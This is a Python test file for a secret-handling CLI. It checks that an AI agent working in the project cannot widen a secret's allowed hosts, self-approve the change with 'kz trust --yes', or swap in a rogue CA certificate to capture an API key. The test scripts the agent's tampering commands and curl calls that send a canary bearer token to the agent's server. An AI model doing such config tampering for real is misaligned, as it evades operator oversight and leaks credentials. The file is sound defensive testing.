"""Issue 15, class 12: configuration written by the agent.

The agent can edit its workspace, the project's .keyzero.toml and the CA file it names
included. It adds its own host to a secret's hosts, or swaps the CA file for one that
makes its own server verify as the bound host; the operator's next identical
`kz run --blind` would then send the value there. kz pins each project's bindings
outside the workspace (`kz trust`): the first blind run trusts what it finds, and a later
run whose bindings widened stops with exit status 2 before anything starts, printing
the changes. The value never reaches the agent's host.
"""
import os
import re
import shutil
import subprocess
import unittest

from kzt import KZ, BlindTestCase, read_jsonl

CANARY = "kzCANARY/12c0nfig+tamper_5e7d9b1a.Zq"
CURL = 'curl -sS --max-time 20 --http1.1 --cacert "%s" -H "Authorization: Bearer $API_KEY" https://%s:%d%s'


class ConfigTamperTest(BlindTestCase):
    def setUp(self):
        super().setUp()
        self.kenv = self.env(KZT_API_KEY_SRC=CANARY)
        # The project's own copy of its CA file, inside the workspace (as projects have it).
        self.project_ca = os.path.join(self.dir, "certs", "ca.pem")
        os.makedirs(os.path.dirname(self.project_ca))
        shutil.copy(self.ca["ca"], self.project_ca)
        self.write_config(["localhost"], "certs/ca.pem")

    def write_config(self, hosts, ca_file):
        self.config('[secrets]\nAPI_KEY = { provider = "env", ref = "KZT_API_KEY_SRC", hosts = [%s] }\n\n'
                    '[blind]\nca_file = "%s"\n' % (", ".join('"%s"' % h for h in hosts), ca_file))

    def read(self, path):
        with open(os.path.join(self.dir, path)) as f:
            return f.read()

    def blind(self, script):
        return self.sh(script, env=self.kenv)

    def assertRefusedBeforeStart(self, r, expect_change):
        self.assertEqual(r.returncode, 2, "the run was not refused:\nstdout:\n%s\nstderr:\n%s" % (r.stdout, r.stderr))
        self.assertIn(expect_change, r.stderr, "the refusal does not show the change")
        self.assertIn("kz trust", r.stderr, "the refusal does not say how to approve")
        self.assertNotIn("STARTED", r.stdout, "the command ran")
        self.assertNotExposed(r.stdout + r.stderr, CANARY, "kz's output")
        refusals = self.audit_events("trust", decision="refuse")
        self.assertTrue(refusals, "no trust refusal in the audit log:\n" + self.audit_dump())
        self.assertTrue(any(expect_change in c for c in refusals[-1].get("changes", [])), refusals[-1])
        self.assertNotIn("resolve", [e.get("event") for e in self.audit() if e.get("run") == refusals[-1].get("run")],
                         "a secret was resolved for a refused run")

    def first_run(self, port, agent_edit):
        """The operator's first blind run: trusted on first use; the agent edits its workspace."""
        r = self.blind("echo STARTED; " + CURL % (self.ca["ca"], "localhost", port, "/v1/first") + "; " + agent_edit)
        self.assertEqual(r.returncode, 0, r.stderr)
        return r

    def assertNothingReached(self, rec, path):
        """The agent's server got no request at all (and so never the value)."""
        got = self.records(rec, path)
        self.assertFalse(any(CANARY in str(x.get("header")) for x in got), "the agent's host received the value")
        self.assertFalse(got, "the agent's host got a request")

    def test_agent_adds_its_host_to_the_config(self):
        port, rec = self.echo_server("tls")
        # The agent's host: 127.0.0.1 (the server's leaf verifies for it), not bound.
        # The agent edits the config, then tries to approve its own edit from inside the run.
        first = self.first_run(port, "sed -i 's/hosts = \\[\"localhost\"\\]/hosts = [\"localhost\", \"127.0.0.1\"]/' "
                               "%s; %s trust --yes; echo trust-exit=$?" % (os.path.join(self.dir, ".keyzero.toml"), KZ))
        self.assertIn('"127.0.0.1"', self.read(".keyzero.toml"), "the agent's edit failed")
        r = self.blind("echo STARTED; " + CURL % (self.ca["ca"], "127.0.0.1", port, "/v1/exfil"))
        self.assertNothingReached(rec, "/v1/exfil")
        self.assertRefusedBeforeStart(r, "API_KEY: host 127.0.0.1")
        self.assertTrue(self.audit_events("trust", decision="first-use"), "no first-use record:\n" + self.audit_dump())
        self.assertIn("trust-exit=2", first.stdout)
        self.assertIn("cannot run inside kz run", first.stdout + first.stderr)

    def test_agent_swaps_the_ca_file(self):
        port, rec = self.echo_server("rogue")   # the agent's server: a self-signed leaf for localhost
        # The agent appends its own certificate to the project's CA file, so its server
        # verifies as "localhost".
        self.first_run(port, "cat %s >> %s" % (self.ca["rogue"], self.project_ca))
        r = self.blind("echo STARTED; " + CURL % (self.ca["rogue"], "localhost", port, "/v1/mitm"))
        self.assertNothingReached(rec, "/v1/mitm")
        self.assertRefusedBeforeStart(r, "ca_file")
        # Or points ca_file at a file of its own.
        shutil.copy(self.ca["ca"], self.project_ca)   # undo the first edit
        with open(self.ca["rogue"]) as f:
            agent_ca = self.write("agent-ca.pem", f.read())
        self.write_config(["localhost"], agent_ca)
        r = self.blind("echo STARTED; " + CURL % (self.ca["rogue"], "localhost", port, "/v1/mitm2"))
        self.assertNothingReached(rec, "/v1/mitm2")
        self.assertRefusedBeforeStart(r, "ca_file " + agent_ca)

    def test_operator_approves_narrowing_passes_and_summary_flags_the_change(self):
        port, rec = self.echo_server("tls")
        self.first_run(port, "true")
        self.write_config(["localhost", "127.0.0.1"], "certs/ca.pem")
        self.assertEqual(self.blind("echo STARTED").returncode, 2)
        # The operator reviews and records the change (outside the run, no terminal: --yes).
        t = self.kz("trust", env=self.kenv)
        self.assertEqual(t.returncode, 2, "kz trust without --yes and without a terminal must not record")
        self.assertIn("+ API_KEY: host 127.0.0.1", t.stdout)
        t = self.kz("trust", "--yes", env=self.kenv)
        self.assertEqual(t.returncode, 0, t.stdout + t.stderr)
        self.assertIn("recorded in", t.stdout)
        trust_dir = os.path.join(self.home, ".config", "keyzero", "trust")
        self.assertTrue(os.listdir(trust_dir), "nothing in the default trust store")
        self.assertNotExposed(self.read(os.path.join(trust_dir, os.listdir(trust_dir)[0])), CANARY, "the trust store")
        r = self.blind("echo STARTED; " + CURL % (self.ca["ca"], "127.0.0.1", port, "/v1/approved"))
        self.assertEqual(r.returncode, 0, r.stderr)
        approved = self.records(rec, "/v1/approved")
        self.assertEqual(len(approved), 1)
        self.assertTrue(self.auth_of(approved[0]) == "Bearer " + CANARY, "an approved binding must be honoured")
        # Narrowing is accepted without asking.
        self.write_config(["localhost"], "certs/ca.pem")
        r = self.blind("echo STARTED")
        self.assertEqual(r.returncode, 0, r.stderr)
        # run.start carries the config's hash; the summary flags the changes between runs.
        starts = [e for e in self.audit() if e.get("event") == "run.start"]
        self.assertTrue(all(re.fullmatch(r"[0-9a-f]{64}", e.get("config_sha256", "")) for e in starts), starts)
        s = subprocess.run([KZ, "audit", "summary", self.audit_path], capture_output=True, text=True,
                           env=self.env(), timeout=30)
        self.assertRegex(s.stdout, r"configs that changed between runs: [1-9]")
        self.assertIn(os.path.join(self.dir, ".keyzero.toml"), s.stdout)


if __name__ == "__main__":
    unittest.main()
